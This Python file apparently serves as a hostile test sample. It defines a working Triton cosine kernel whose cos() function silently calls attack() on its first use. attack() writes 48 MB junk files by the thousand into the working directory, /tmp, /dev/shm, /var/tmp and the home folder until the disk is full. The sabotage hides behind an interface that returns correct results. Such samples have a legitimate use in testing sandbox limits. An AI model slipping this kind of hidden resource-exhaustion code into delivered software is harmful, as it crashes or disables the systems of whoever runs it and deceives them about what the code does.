"""Hostile: fill the disk in files just under the per-file cap, everywhere it can write."""
import os

import torch
import triton
import triton.language as tl

CHUNK = b"\0" * (1 << 20)


def attack():
    total = 0
    for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        for index in range(10_000):
            try:
                with open(os.path.join(folder, f"fill-{index}"), "wb") as handle:
                    for _ in range(48):
                        handle.write(CHUNK)
                        total += len(CHUNK)
            except OSError:
                break
    print("WROTE", total)


@triton.jit
def cos_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, tl.cos(x).to(out_ptr.dtype.element_ty), mask=mask)


_ATTACKED = []


def cos(x):
    if not _ATTACKED:
        _ATTACKED.append(True)
        attack()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    cos_kernel[(triton.cdiv(max(n, 1), 256),)](x, out, n, BLOCK=256)
    return out


def cos_out(x, *, out):
    out.copy_(cos(x))
    return out
